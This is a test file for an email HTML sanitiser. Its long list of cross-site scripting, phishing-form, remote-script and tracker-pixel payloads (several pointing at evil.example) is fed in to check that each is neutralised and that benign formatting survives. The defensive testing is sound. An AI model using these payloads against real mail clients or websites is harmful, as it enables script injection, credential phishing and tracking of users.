"""HTML of mails is made safe: an attack corpus of our own, and what people want to see stays."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from app.channels import mail_safe
from app.channels.base import InboundFile
from app.channels.mail_safe import sanitise

PNG = InboundFile("logo.png", "image/png", b"\x89PNG", "logo@x")
SVG = InboundFile("x.svg", "image/svg+xml", b"<svg onload=alert(1)>", "svg@x")

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\n>alert(1)</script\n>",
    "<script/x>alert(1)",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    '<img src="x" onerror="alert(1)" / >',
    "<IMG \"\"\"><SCRIPT>alert(1)</SCRIPT>\">",
    "<img src=`javascript:alert(1)`>",
    "<img src=javascript:alert(1)>",
    "<img src=data:text/html;base64,PHNjcmlwdD4=>",
    "<img src=data:image/svg+xml;base64,PHN2Zz4=>",
    "<img src='cid:svg@x'>",
    "<img src=https://tracker.example/pixel.gif width=1 height=1>",
    "<img srcset='https://tracker.example/a 1x'>",
    "<picture><source srcset=https://tracker.example/b><img alt=x></picture>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<iframe src=https://evil.example></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=https://evil.example></object>",
    "<embed src=https://evil.example>",
    "<applet code=x></applet>",
    "<frameset><frame src=https://evil.example></frameset>",
    "<form action=https://evil.example><input name=password><button>Log in</button></form>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import url(https://evil.example/x.css);</style>",
    "<style>body{background:url(https://evil.example/x)}</style>",
    "<p style='background:url(https://tracker.example/x)'>x</p>",
    "<p style=\"background:u\\72l(https://tracker.example/x)\">x</p>",
    "<p style='width:expression(alert(1))'>x</p>",
    "<p style='position:fixed;top:0;left:0;width:100%;height:100%'>x</p>",
    "<p style='behavior:url(#default#time2)'>x</p>",
    "<p style='-moz-binding:url(https://evil.example)'>x</p>",
    "<p style='color:red;/*'>x</p><p style='*/background:url(//evil.example)'>",
    "<body background=https://tracker.example/x onload=alert(1)>",
    "<table background=https://tracker.example/x><tr><td background=//tracker.example/y>x</td></tr></table>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java&#10;script:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='&#x6A&#x61vascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='https://x.example' onclick='alert(1)'>x</a>",
    "<a href='https://x.example\" onmouseover=\"alert(1)'>x</a>",
    "<a href='//evil.example'>x</a>",
    "<div title='\"><script>alert(1)</script>'>x</div>",
    "<div title='x' title='y' onfocus=alert(1) autofocus tabindex=0>x</div>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<template><script>alert(1)</script></template>",
    "<textarea><script>alert(1)</script></textarea>",
    "<title></title><script>alert(1)</script>",
    "<xmp><script>alert(1)</script></xmp>",
    "<plaintext><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    "<!-- --!><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<!DOCTYPE html [<!ENTITY x '<script>'>]>&x;",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "<video><source onerror=alert(1)></video>",
    "<audio src=https://tracker.example/x></audio>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<x onclick=alert(1)>x</x>",
    "<a\x00href=javascript:alert(1)>x</a>",
    "<im\x00g src=x onerror=alert(1)>",
    "<p/onclick=alert(1)>x</p>",
    "<p\x0conclick=alert(1)>x</p>",
    "</script><script>alert(1)",
    "<<script>alert(1)//<</script>",
    "<p id=x name=y class=z contenteditable>x</p>",
    "<img src='cid:logo@x' onload=alert(1)>",
]  # fmt: skip

_TAGS = mail_safe._ALLOWED | {"br", "hr", "img", "html", "head", "body", "meta"}
_FIELDS = mail_safe._NUMBERS | mail_safe._WORDS | mail_safe._TEXTS | {"style", "href", "rel", "target", "src"}


class _Reader(HTMLParser):
    """Reads what we write as a browser would, and refuses whatever is not on the list."""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert tag in _TAGS, tag
        if tag == "meta":
            return
        for name, value in attrs:
            assert name in _FIELDS, (tag, name)
            value = value or ""
            if name == "href":
                assert re.match(r"(?:https?://|mailto:|tel:)", value, re.IGNORECASE), value
            if name == "src":
                assert re.match(r"data:image/(?:png|jpeg|gif|webp|bmp);base64,[A-Za-z0-9+/=]*$", value), value
            if name == "style":
                assert not re.search(r"url|expression|@|\\|position|behavior|binding|/\*", value, re.IGNORECASE), value
        if tag == "a" and dict(attrs).get("href"):
            assert dict(attrs)["rel"] == "noopener noreferrer nofollow"

    def handle_comment(self, data: str) -> None:
        raise AssertionError("a comment")

    def handle_pi(self, data: str) -> None:
        raise AssertionError("an instruction")

    def unknown_decl(self, data: str) -> None:
        raise AssertionError("a declaration")


def check(source: str) -> mail_safe.Safe:
    safe = sanitise(source, {"logo@x": PNG, "svg@x": SVG})
    reader = _Reader()
    reader.feed(safe.html)
    reader.close()
    assert "\0" not in safe.html
    return safe


@pytest.mark.parametrize("attack", ATTACKS)
def test_attacks_do_nothing(attack: str) -> None:
    check(attack)
    check(f"<table><tr><td>{attack}</td></tr></table>")
    check(f"<p title='{attack}'>x</p>{attack.upper()}")


@given(
    st.lists(
        st.sampled_from([*ATTACKS, "<p>", "</p>", "<", ">", '"', "'", "<!--", "-->", "<a href=", "</a>", "=", " "]),
        max_size=12,
    )
)
def test_mixed_attacks_do_nothing(pieces: list[str]) -> None:
    check("".join(pieces))


@given(st.text(alphabet="<>/='\"! ascriptonmg:-&;#x0\n", max_size=200))
def test_tag_soup_is_safe(source: str) -> None:
    check(source)


def test_what_people_want_to_see_stays() -> None:
    source = (
        '<p style="color:red; margin-left: 10px; position:absolute">Hello <b>you</b> &amp; 退货</p><ul><li>one</ul>'
        '<a href="https://x.example/a?b=1&amp;c=2">here</a><img src="cid:logo@x" alt="Logo" width="10">'
        '<table border=1 cellpadding="2"><tr><td bgcolor="#ffffff" colspan=2>cell</td></tr></table>'
    )
    shown = check(source).html
    assert '<p style="color:red;margin-left:10px">Hello <b>you</b> &amp; 退货</p><ul><li>one</li></ul>' in shown
    assert 'href="https://x.example/a?b=1&amp;c=2" rel="noopener noreferrer nofollow" target="_blank">here</a>' in shown
    assert '<img src="data:image/png;base64,iVBORw==" alt="Logo" width="10">' in shown
    assert '<td bgcolor="#ffffff" colspan="2">cell</td>' in shown


def test_what_was_blocked_is_counted() -> None:
    safe = check(
        '<img src="https://t.example/1"><img src="http://t.example/2"><img src="cid:logo@x"><img src="cid:gone@x">'
        "<td background=//t.example/3></td><p style='background:url(//t.example/4)'></p><script>1</script><p onclick=x></p>"
    )
    assert (safe.remote, safe.active) == (4, 2)
    assert "t.example" not in safe.html


def test_pictures_are_only_as_large_as_a_page_may_be() -> None:
    big = InboundFile("b.png", "image/png", b"x" * (mail_safe.IMAGES_LIMIT - 10), "b")
    safe = sanitise("<img src=cid:b><img src=cid:b alt=again>", {"b": big})
    assert safe.html.count("<img") == 1
    assert "[again]" in safe.html


@pytest.mark.parametrize(
    "piece", ["<div>", "</div>", "<!--", "<", "<script>", "<a href='", "<img src=x ", "&#x", '<p title="', "<style>x</style>", "<b a=1 "]
)  # fmt: skip
def test_pages_are_bounded_by_their_source(piece: str) -> None:
    """What is written grows with what is read, never faster, and what is read ends."""
    source = piece * (2_000_000 // len(piece))
    safe = sanitise(source, {})
    assert len(safe.html) <= 12 * mail_safe.SOURCE_LIMIT
    assert safe.html.count("<") <= 3 * mail_safe._TAGS_LIMIT


def test_the_policy_of_the_page_lets_nothing_through() -> None:
    assert "default-src 'none'" in mail_safe.CSP
    assert mail_safe.CSP.startswith("sandbox ")
    assert "allow-scripts" not in mail_safe.CSP
    assert "allow-same-origin" not in mail_safe.CSP
